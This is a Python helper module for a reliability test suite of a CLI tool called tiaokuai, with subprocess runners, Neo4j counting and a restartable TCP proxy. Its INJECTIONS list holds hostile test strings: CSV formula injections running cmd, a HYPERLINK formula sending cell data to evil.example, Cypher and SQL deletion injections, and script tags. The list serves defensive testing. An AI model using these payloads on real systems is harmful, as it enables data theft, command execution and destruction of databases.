"""Helpers for the reliability suite: the CLI as a subprocess, stores seen from outside, a TCP proxy.

Everything here looks at tiaokuai the way a user or an operator does: ``tiaokuai`` run as its own
process, the embedded file read back with a fresh store, Neo4j counted through a raw driver.
"""

from __future__ import annotations

import contextlib
import csv
import hashlib
import io
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

from liveserver import free_port, live_server  # noqa: F401 (re-exported for the tests here)

REPO = Path(__file__).resolve().parents[2]
GOOD = REPO / "tests" / "data" / "good"

#: every text that a spreadsheet would run as a formula if written unquoted (OWASP CSV injection)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

#: hostile strings for every text field: formulas, Cypher injection, GraphQL/JSON breakers, unicode
INJECTIONS = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "' OR 1=1 //",
    "}) MATCH (n) DETACH DELETE n //",
    "') MATCH (n) DETACH DELETE n RETURN 1 //",
    "x` DETACH DELETE n //",
    "`Unit`",
    "$param",
    "$ids",
    '"; MATCH (n) DETACH DELETE n; //',
    "\\u0027 OR 1=1",
    "{{7*7}} ${7*7} <script>alert(1)</script>",
    "税务局'); DROP TABLE units;--",
    "\u202eevil\u202c",
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 🀄 \u200b\ufeff",
]


def tiaokuai_command() -> list[str]:
    """The installed console script next to this interpreter, else the same entry point via -c."""
    script = Path(sys.executable).with_name("tiaokuai")
    if script.exists():
        return [str(script)]
    return [sys.executable, "-c", "from graph.cli import main; main()"]


def clean_env(**extra: str) -> dict[str, str]:
    """The environment minus a developer's TIAOKUAI_* settings (Neo4j credentials are kept)."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("TIAOKUAI_")}
    env["PYTHONUNBUFFERED"] = "1"
    env.update(extra)
    return env


def cli(*args: str, store: str | None = None, timeout: float = 300, env: dict[str, str] | None = None,
        input_bytes: bytes | None = None) -> subprocess.CompletedProcess[str]:  # fmt: skip
    """Run ``tiaokuai ARGS [--store STORE]`` as its own process; text output, no check."""
    argv = [*tiaokuai_command(), *args]
    if store is not None:
        argv += ["--store", store]
    return subprocess.run(
        argv,
        capture_output=True,
        text=True,
        encoding="utf-8",
        errors="backslashreplace",
        timeout=timeout,
        env=env or clean_env(),
        stdin=subprocess.DEVNULL if input_bytes is None else None,
    )


def cli_inprocess(*args: str, store: str | None = None) -> subprocess.CompletedProcess[str]:
    """The same command through click in this process (fast): for output checks, not crash checks."""
    from click.testing import CliRunner

    from graph.cli import cli as group

    argv = [*args, "--store", store] if store is not None else list(args)
    outcome = CliRunner().invoke(group, argv, catch_exceptions=True)
    stderr = outcome.stderr
    if outcome.exception is not None and not isinstance(outcome.exception, SystemExit):
        import traceback

        stderr += "".join(traceback.format_exception(outcome.exception))
    return subprocess.CompletedProcess(["tiaokuai", *argv], outcome.exit_code, outcome.stdout, stderr)


def assert_clean_exit(result: subprocess.CompletedProcess[str], allowed: Sequence[int] = (0, 1)) -> None:
    """No traceback anywhere, and an exit status among ``allowed``."""
    assert "Traceback" not in result.stderr, result.stderr[-4000:]
    assert "Traceback" not in result.stdout, result.stdout[-4000:]
    assert result.returncode in allowed, (result.returncode, result.stderr[-4000:])


def file_digest(path: Path) -> str | None:
    try:
        return hashlib.sha256(path.read_bytes()).hexdigest()
    except FileNotFoundError:
        return None


def copy_good(dest: Path) -> Path:
    dest.mkdir(parents=True, exist_ok=True)
    for f in GOOD.glob("*.csv"):
        shutil.copy(f, dest / f.name)
    return dest


def write_csv(
    path: Path, header: Sequence[str], rows: Sequence[Sequence[Any]], encoding: str = "utf-8"
) -> Path:
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(header)
    w.writerows(rows)
    path.write_text(buf.getvalue(), encoding=encoding)
    return path


# -- Neo4j seen through a raw driver ---------------------------------------------------------------


def neo4j_driver(uri: str) -> Any:
    from neo4j import GraphDatabase

    password = os.environ.get("NEO4J_PASSWORD")
    auth = (os.environ.get("NEO4J_USERNAME") or "neo4j", password) if password else None
    return GraphDatabase.driver(uri, auth=auth)


def neo4j_database() -> str:
    return os.environ.get("NEO4J_DATABASE") or "neo4j"


def clear_neo4j(uri: str) -> None:
    from graph.store.cypher import CLEAR_DATABASE

    with neo4j_driver(uri) as driver, driver.session(database=neo4j_database()) as session:
        session.run(CLEAR_DATABASE).consume()


def neo4j_counts(uri: str) -> tuple[int, int]:
    """(nodes, relationships) in the test database."""
    with neo4j_driver(uri) as driver:
        nodes = driver.execute_query("MATCH (n) RETURN count(n) AS n", database_=neo4j_database())
        rels = driver.execute_query("MATCH ()-[r]->() RETURN count(r) AS n", database_=neo4j_database())
    return int(nodes.records[0]["n"]), int(rels.records[0]["n"])


# -- a TCP proxy that can be taken down and brought back ------------------------------------------


class TcpProxy:
    """Forward 127.0.0.1:``port`` to ``upstream``. :meth:`down` refuses new connections and resets
    every open one (as a stopped server does); :meth:`up` listens again on the same port."""

    def __init__(self, upstream: tuple[str, int]):
        self.upstream = upstream
        with socket.socket() as s:
            s.bind(("127.0.0.1", 0))
            self.port = s.getsockname()[1]
        self._listener: socket.socket | None = None
        self._conns: set[socket.socket] = set()
        self._lock = threading.Lock()

    def up(self) -> None:
        listener = socket.socket()
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        deadline = time.monotonic() + 10
        while True:
            try:
                listener.bind(("127.0.0.1", self.port))
                break
            except OSError:
                if time.monotonic() > deadline:
                    raise
                time.sleep(0.1)
        listener.listen(64)
        self._listener = listener
        threading.Thread(target=self._accept, args=(listener,), daemon=True).start()

    def down(self) -> None:
        listener, self._listener = self._listener, None
        if listener is not None:
            with contextlib.suppress(OSError):
                listener.shutdown(socket.SHUT_RDWR)
            listener.close()
        with self._lock:
            conns, self._conns = self._conns, set()
        for c in conns:
            with contextlib.suppress(OSError):
                c.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, b"\x01\x00\x00\x00\x00\x00\x00\x00")
                # wakes the pump blocked in recv on it: a close alone would leave the kernel socket
                # open under that recv, and the server would never learn that the client is gone
                c.shutdown(socket.SHUT_RDWR)
            with contextlib.suppress(OSError):
                c.close()

    def _accept(self, listener: socket.socket) -> None:
        while True:
            try:
                client, _ = listener.accept()
            except OSError:
                return
            try:
                server = socket.create_connection(self.upstream, timeout=5)
                server.settimeout(None)
            except OSError:
                client.close()
                continue
            with self._lock:
                self._conns.update((client, server))
            for a, b in ((client, server), (server, client)):
                threading.Thread(target=self._pump, args=(a, b), daemon=True).start()

    def _pump(self, src: socket.socket, dst: socket.socket) -> None:
        try:
            while chunk := src.recv(65536):
                dst.sendall(chunk)
        except OSError:
            pass
        finally:
            for s in (src, dst):
                with contextlib.suppress(OSError):
                    s.shutdown(socket.SHUT_RDWR)


@contextlib.contextmanager
def serve_process(store: str, env: dict[str, str] | None = None, port: int | None = None) -> Iterator[str]:
    """``tiaokuai serve`` as its own process on a free loopback port; yields its base URL."""
    import httpx

    if port is None:
        with socket.socket() as s:
            s.bind(("127.0.0.1", 0))
            port = s.getsockname()[1]
    # Output goes to a file, not a pipe: a pipe nobody reads fills up (64 KiB of request log lines)
    # and then blocks the server in the middle of a request.
    log = tempfile.TemporaryFile()  # noqa: SIM115 - closed in the finally below
    proc = subprocess.Popen(
        [*tiaokuai_command(), "serve", "--host", "127.0.0.1", "--port", str(port), "--store", store],
        stdout=log,
        stderr=subprocess.STDOUT,
        env=env or clean_env(),
    )
    base = f"http://127.0.0.1:{port}"
    try:
        deadline = time.monotonic() + 60
        while True:
            if proc.poll() is not None:
                log.seek(0)
                raise RuntimeError(f"tiaokuai serve exited: {log.read().decode()[-2000:]}")
            with contextlib.suppress(httpx.HTTPError):
                if httpx.get(base + "/healthz", timeout=1).status_code == 200:
                    break
            if time.monotonic() > deadline:
                raise RuntimeError("tiaokuai serve did not start")
            time.sleep(0.1)
        yield base
    finally:
        proc.terminate()
        try:
            proc.wait(timeout=20)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()
        log.seek(0)
        serve_process.last_stderr = log.read().decode("utf-8", "replace")  # type: ignore[attr-defined]
        log.close()
